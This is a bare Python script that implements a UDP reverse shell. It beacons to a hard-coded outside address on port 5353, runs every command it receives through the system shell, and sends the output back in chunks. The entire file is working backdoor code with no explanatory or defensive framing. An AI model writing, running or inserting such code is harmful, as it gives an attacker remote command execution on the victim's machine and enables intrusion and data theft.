import socket
import subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server = ("198.51.100.44", 5353)
s.sendto(b"hello", server)
while True:
    data, _ = s.recvfrom(65535)
    out = subprocess.run(data.decode(), shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    for i in range(0, len(out.stdout), 1400):
        s.sendto(out.stdout[i:i + 1400], server)
